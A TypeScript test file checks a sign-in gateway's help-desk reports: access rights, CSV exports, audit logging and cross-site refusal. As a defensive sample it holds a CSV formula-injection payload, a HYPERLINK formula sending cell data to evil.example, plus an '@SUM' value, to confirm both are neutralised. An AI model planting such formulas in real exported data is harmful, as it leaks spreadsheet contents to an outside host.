import { describe, expect, it, vi } from 'vitest';
import type { Reply } from '../support/client.ts';
import { type Agent, agentAt, DESK_CONFIG } from '../support/desk.ts';
import { accountOf, appHolder } from '../support/holders.ts';
import { type Someone, stage } from '../support/scene.ts';

const scene = stage(() => ({ config: DESK_CONFIG }));
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';

/** The records of a file, without the first; no cell of these has a line break in it. */
function records(file: Reply): string[] {
  expect(file.status).toBe(200);
  expect(file.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
  expect(file.headers['content-disposition']).toMatch(/^attachment; filename="sallyport-[a-z]+-\d{4}-\d\d-\d\d\.csv"$/);
  expect(file.headers['cache-control']).toBe('no-store');
  expect(file.body.startsWith('\ufeff')).toBe(true);
  expect(file.body.endsWith('\r\n')).toBe(true);
  return file.body.split('\r\n').slice(1, -1);
}

const report = (agent: Agent, name: string) => agent.open(`/helpdesk/reports/${name}`);
const csv = async (agent: Agent, name: string) => records(await agent.open(`/helpdesk/reports/${name}/csv`));

/** Somebody who has signed in once, with a password alone. */
async function known(groups: string): Promise<Someone> {
  const someone = await scene.newcomer({ groups });
  await someone.enter('library');
  return someone;
}

describe('reports of the help desk', () => {
  it('are for agents with that right alone', async () => {
    const agent = await agentAt(scene);
    expect((await agent.open('/helpdesk')).body).toContain('href="/helpdesk/reports"');
    expect((await agent.open('/helpdesk/reports')).text).toContain('Not set up yet');
    const night = await agentAt(scene, 'night');
    expect((await night.open('/helpdesk')).body).not.toContain('/helpdesk/reports');
    const student = await appHolder(scene);
    for (const path of ['', '/enrolment', '/enrolment/csv', '/fraud/csv', '/nothing', '/nothing/csv']) {
      const address = `${scene.gateway.url}/helpdesk/reports${path}`;
      expect((await night.open(`/helpdesk/reports${path}`)).status).toBe(404);
      expect((await student.client.open(address)).status).toBe(404);
    }
    expect(scene.audit().filter(({ event }) => event === 'report.downloaded')).toEqual([]);
  });

  it('say who isn’t enrolled, of those in scope, and from when they are asked', async () => {
    const agent = await agentAt(scene);
    const [student, staff, vip, other] = await Promise.all([
      known('students'),
      known('staff'),
      known('students,vip'),
      known('guests'),
    ]);
    const enrolled = await appHolder(scene);
    const lines = await csv(agent, 'enrolment');
    const about = ({ username }: Someone) => lines.filter((line) => line.startsWith(`${username},`));
    expect(about(student)).toEqual([expect.stringMatching(/,students,\d{4}-.*Z,now,courses$/)]);
    expect(about(staff)).toHaveLength(1);
    expect([vip, other, enrolled, agent.someone].flatMap(about)).toEqual([]);
    const page = await report(agent, 'enrolment');
    expect(page.text).toMatch(/students/);
    expect(page.text).not.toMatch(/guests|vip/);
  });

  it('name those who never signed in, as far as they could', async () => {
    const agent = await agentAt(scene);
    const [student, guest, disabled] = [
      await scene.newcomer({ groups: 'students' }),
      await scene.newcomer({ groups: 'guests' }),
      await scene.newcomer({ groups: 'students' }),
    ];
    await scene.gateway.command('user disable', [disabled.username]);
    const lines = await csv(agent, 'enrolment');
    const about = ({ username }: Someone) => lines.filter((line) => line.startsWith(`${username},`));
    expect(about(student)).toEqual([expect.stringMatching(/,students,,now,courses$/)]);
    expect([guest, disabled].flatMap(about)).toEqual([]);
    await student.enter('library');
    expect((await csv(agent, 'enrolment')).filter((line) => line.startsWith(`${student.username},`))).toEqual([
      expect.stringMatching(/,students,\d{4}-.*Z,now,courses$/),
    ]);
  });

  it('write no formula that somebody chose for a name', async () => {
    const agent = await agentAt(scene);
    await scene.gateway.addUser('mallory', { name: FORMULA, groups: 'students' });
    const mallory = await known('students');
    const client = scene.elsewhere(Object.assign(mallory, { username: 'mallory' }));
    await client.enter('library');
    const [line] = (await csv(agent, 'enrolment')).filter((one) => one.startsWith('mallory,'));
    expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`);
  });

  it('count methods by factor, and by the day when they were last used', async () => {
    const agent = await agentAt(scene);
    const someone = await appHolder(scene);
    const today = new Date(scene.gateway.now()).toISOString().slice(0, 10);
    const before = await csv(agent, 'methods');
    const counted = (lines: string[], start: string) =>
      Number(
        lines
          .find((line) => line.startsWith(start))
          ?.split(',')
          .at(-1) ?? 0,
      );
    expect(counted(before, 'totp,,')).toBeGreaterThan(0);
    const other = scene.elsewhere(someone);
    await other.remember(await other.code(await other.enter('courses'), scene.nextCode(someone)), 'no');
    const after = await csv(agent, 'methods');
    expect(counted(after, `totp,${today},`)).toBe(counted(before, `totp,${today},`) + 1);
    expect((await report(agent, 'methods')).text).toContain('Code app');
  });

  it('show what was reported, with whom it is about', async () => {
    const agent = await agentAt(scene);
    const { reports } = scene.gateway.app.rooms;
    const [student, guest] = [await known('students'), await known('guests')];
    const about = { what: 'sign-in', at: scene.gateway.now(), application: 'courses', userAgent: '@SUM(1+1)' } as const;
    for (const { username } of [student, guest]) {
      await reports.make(await accountOf(scene, { username }), { ...about, ip: username }, {});
    }
    const lines = await csv(agent, 'fraud');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain(`,${student.username},`);
    expect(lines[0]).toContain(",'@SUM(1+1),");
    const page = await report(agent, 'fraud');
    expect(page.body).toContain(`href="/helpdesk/people/${await accountOf(scene, student)}"`);
    expect(page.text).toContain('Open');
  });

  it('count failed sign-ins by day, reason and application, also under names that nobody has', async () => {
    const agent = await agentAt(scene);
    const [student, guest] = [await known('students'), await known('guests')];
    const counted = async (reason: string) =>
      (await csv(agent, 'failures'))
        .filter((line) => line.includes(`,sign-in.refused,${reason},library,`))
        .reduce((sum, line) => sum + Number(line.split(',').at(-1)), 0);
    const [wrong, nobody] = [await counted('wrong-password'), await counted('no-account')];
    for (const [someone, username] of [[student], [guest], [student, 'nobody-of-that-name']] as const) {
      const other = scene.elsewhere(someone);
      await other.password(await other.begin('library'), username ?? someone.username, 'not the password');
    }
    await vi.waitFor(async () => expect(await counted('no-account')).toBe(nobody + 1), { timeout: 20_000 });
    expect(await counted('wrong-password')).toBe(wrong + 1);
    const page = await agent.open('/helpdesk/reports/failures?days=7');
    expect(page.text).toContain('Wrong password');
    expect(page.text).not.toContain('wrong-password');
    expect(page.body).toContain('/helpdesk/reports/failures/csv?days=7');
  });

  it('are audited each time that one is had as a file, and not for another site', async () => {
    const agent = await agentAt(scene);
    const had = () => scene.audit().filter(({ event }) => event === 'report.downloaded');
    const before = had().length;
    await csv(agent, 'failures');
    expect(had().slice(before)).toHaveLength(1);
    const detail = JSON.parse(had().at(-1)?.detail ?? '{}') as Record<string, unknown>;
    expect(detail).toMatchObject({ by: await accountOf(scene, agent.someone), report: 'failures' });
    const address = `${scene.gateway.url}/helpdesk/reports/failures/csv`;
    const sent = await agent.someone.client.get(address, { from: 'https://evil.example' });
    expect(sent.location?.pathname).toBe('/helpdesk/reports/failures');
    expect(had()).toHaveLength(before + 1);
  });
});
